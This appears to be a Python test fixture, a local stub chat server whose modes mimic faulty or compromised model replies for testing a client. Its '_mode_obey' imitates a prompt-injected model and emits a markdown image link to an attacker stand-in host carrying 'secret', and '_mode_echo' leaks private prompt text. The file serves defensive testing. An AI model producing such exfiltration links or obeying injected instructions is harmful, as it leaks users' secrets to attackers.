"""A chat server on this machine that behaves, or misbehaves, as it is told.

    with StubServer("ok", replies=["Hello."]) as server:
        LangChainChat("stub", base_url=server.url, key="k").complete(...)
        server.requests[0]["messages"]

`mode` is one of the `_mode_` methods below or an HTTP status, and may be changed at any time.
`replies` are said in turn and the last one for ever; each is a string, or a function from the
request's body to a string.
"""

import json
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from email.utils import formatdate
from http.server import ThreadingHTTPServer
from typing import Any

from tests.stub_protocol import ChatProtocol

Said = str | Callable[[dict[str, Any]], str]


class StubServer:
    def __init__(self, mode: str = "ok", replies: Sequence[Said] = ("Hello from the stub.",)) -> None:
        self.mode = mode
        self.replies: list[Said] = list(replies)
        self.requests: list[dict[str, Any]] = []
        self.headers: list[dict[str, str]] = []
        self.walked_away = threading.Event()
        """Set when a client closed its side before the reply was over."""
        self.stopping = threading.Event()
        self.delay = 0.0
        """Seconds before each piece in the mode "ok"."""
        self.piece = 4
        """Characters in each piece of a streamed reply."""
        self._lock = threading.Lock()
        handler = type("Handler", (_Handler,), {"stub": self})
        self._server = _Server(("127.0.0.1", 0), handler)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)

    @property
    def host(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    @property
    def url(self) -> str:
        return f"{self.host}/v1"

    def __enter__(self) -> "StubServer":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stopping.set()
        self._server.shutdown()
        self._server.server_close()

    def note(self, body: dict[str, Any], headers: dict[str, str]) -> int:
        """Remember a request; answers how many came before it."""
        with self._lock:
            self.requests.append(body)
            self.headers.append(headers)
            return len(self.requests) - 1

    def say(self, index: int, body: dict[str, Any]) -> str:
        said = self.replies[min(index, len(self.replies) - 1)]
        return said(body) if callable(said) else said


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client that walks away is nothing to print."""


class _Handler(ChatProtocol):
    stub: StubServer

    def do_GET(self) -> None:
        listed = {"object": "list", "data": [{"id": "stub", "object": "model"}]}
        self._json(200, listed if self.path.endswith("/models") else {"status": "ok"})

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = json.loads(raw)
        index = self.stub.note(body, {key.lower(): value for key, value in self.headers.items()})
        mode = self.stub.mode
        try:
            getattr(self, f"_mode_{mode}", self._status)(index, body)
        except (BrokenPipeError, ConnectionResetError):
            self.stub.walked_away.set()
            self.close_connection = True

    # Good behaviour

    def _mode_ok(self, index: int, body: dict[str, Any]) -> None:
        self._reply(body, self.stub.say(index, body))

    def _mode_echo(self, index: int, body: dict[str, Any]) -> None:
        """Says everything it was told, private words included."""
        self._reply(body, "\n".join(str(message["content"]) for message in body["messages"]))

    def _mode_obey(self, index: int, body: dict[str, Any]) -> None:
        """Does what the last line of the prompt says, as a model does that an attacker has turned."""
        last = str(body["messages"][-1]["content"]).strip().splitlines()[-1]
        self._reply(body, f"As instructed: {last} ![x](http://attacker.invalid/?q=secret)")

    # Bad replies

    def _mode_garbage(self, index: int, body: dict[str, Any]) -> None:
        self._start(200, "text/event-stream")
        self._send(b'data: {"choices": 7}\n\ndata: [1, 2\n\n')
        self._end()

    def _mode_broken_json(self, index: int, body: dict[str, Any]) -> None:
        self._reply(body, '{"question": "Half of')

    def _mode_truncate(self, index: int, body: dict[str, Any]) -> None:
        """Closes in good order, but without ever saying that it has finished."""
        self._reply(body, self.stub.say(index, body), finish=None)

    def _mode_length(self, index: int, body: dict[str, Any]) -> None:
        self._reply(body, self.stub.say(index, body), finish="length")

    def _mode_filter(self, index: int, body: dict[str, Any]) -> None:
        self._reply(body, "I ", finish="content_filter")

    def _mode_empty(self, index: int, body: dict[str, Any]) -> None:
        self._reply(body, "")

    def _mode_refusal(self, index: int, body: dict[str, Any]) -> None:
        self._start(200, "text/event-stream")
        self._event({"role": "assistant", "refusal": "I cannot help with that."})
        self._event({}, finish="stop")
        self._end()

    def _mode_toolcall(self, index: int, body: dict[str, Any]) -> None:
        call = {"index": 0, "id": "c1", "function": {"name": "delete_pair", "arguments": "{}"}}
        self._start(200, "text/event-stream")
        self._event({"role": "assistant", "content": self.stub.say(index, body), "tool_calls": [call]})
        self._event({}, finish="stop")
        self._end()

    def _mode_role(self, index: int, body: dict[str, Any]) -> None:
        self._start(200, "text/event-stream")
        self._event({"role": "system", "content": self.stub.say(index, body)})
        self._event({}, finish="stop")
        self._end()

    def _mode_huge(self, index: int, body: dict[str, Any]) -> None:
        """200 MB in pieces of 100 kB."""
        self._start(200, "text/event-stream")
        for _ in range(2_000):
            self._event({"content": "all work and no play " * 5_000})
        self._end()

    def _mode_one_line(self, index: int, body: dict[str, Any]) -> None:
        """200 MB without a line's end."""
        self._start(200, "text/event-stream")
        self._send(b"data: ")
        for _ in range(2_000):
            self._send(b"x" * 100_000)
        self._end()

    def _mode_html(self, index: int, body: dict[str, Any]) -> None:
        self._whole(200, "text/html", b"<!doctype html><title>Sign in</title><h1>Please sign in</h1>")

    def _mode_error_event(self, index: int, body: dict[str, Any]) -> None:
        self._start(200, "text/event-stream")
        self._event({"role": "assistant", "content": "Well, "})
        self._send(b'data: {"error": {"message": "out of memory", "type": "server_error"}}\n\n')
        self._end()

    # Bad timing and bad lines

    def _mode_hang(self, index: int, body: dict[str, Any]) -> None:
        while not self.stub.stopping.is_set() and not self._gone():
            time.sleep(0.02)

    def _mode_drip(self, index: int, body: dict[str, Any]) -> None:
        """A byte a second for ever, so that no timeout between two reads ever strikes."""
        self._start(200, "text/event-stream")
        for byte in _drip():
            self._send(byte)
            until = time.monotonic() + 1.0
            while time.monotonic() < until:
                if self.stub.stopping.is_set() or self._gone():
                    return
                time.sleep(0.02)

    def _mode_reset(self, index: int, body: dict[str, Any]) -> None:
        self._drop()

    def _mode_reset_midway(self, index: int, body: dict[str, Any]) -> None:
        """Breaks the line inside a letter of more than one byte."""
        self._start(200, "text/event-stream")
        self._event({"role": "assistant", "content": "Well, "})
        self._send('data: {"choices":[{"index":0,"delta":{"content":"caf\u00e9'.encode()[:-1])
        self._drop()

    # Bad answers

    def _mode_flapping(self, index: int, body: dict[str, Any]) -> None:
        if index % 2:
            return self._mode_ok(index, body)
        return self._status(index, body, "502")

    def _mode_429(self, index: int, body: dict[str, Any]) -> None:
        self._busy("1")

    def _mode_429_date(self, index: int, body: dict[str, Any]) -> None:
        self._busy(formatdate(time.time() + 2, usegmt=True))

    def _mode_429_bare(self, index: int, body: dict[str, Any]) -> None:
        self._busy(None)

    def _mode_429_absurd(self, index: int, body: dict[str, Any]) -> None:
        self._busy("1000000000")

    def _mode_429_once(self, index: int, body: dict[str, Any]) -> None:
        return self._mode_ok(index, body) if index else self._busy(None)

    def _mode_401(self, index: int, body: dict[str, Any]) -> None:
        key = self.headers.get("Authorization", "")
        self._json(
            401, {"error": {"message": f"Incorrect API key provided: {key}", "code": "invalid_api_key"}}
        )

    def _mode_too_long(self, index: int, body: dict[str, Any]) -> None:
        said = "the request exceeds the available context size. try increasing the context size"
        self._json(400, {"error": {"message": said, "type": "exceed_context_size_error", "code": 400}})

    def _mode_redirect(self, index: int, body: dict[str, Any]) -> None:
        self._whole(307, "text/plain", b"", {"Location": f"{self.stub.host}/elsewhere/chat/completions"})

    def _status(self, index: int, body: dict[str, Any], status: str = "") -> None:
        self._json(int(status or self.stub.mode), {"error": {"message": "no", "type": "stub"}})

    def _busy(self, wait: str | None) -> None:
        self._json(429, {"error": {"message": "slow down"}}, {} if wait is None else {"Retry-After": wait})


def _drip() -> Iterator[bytes]:
    while True:
        yield from (bytes([byte]) for byte in b": still thinking\n\n")
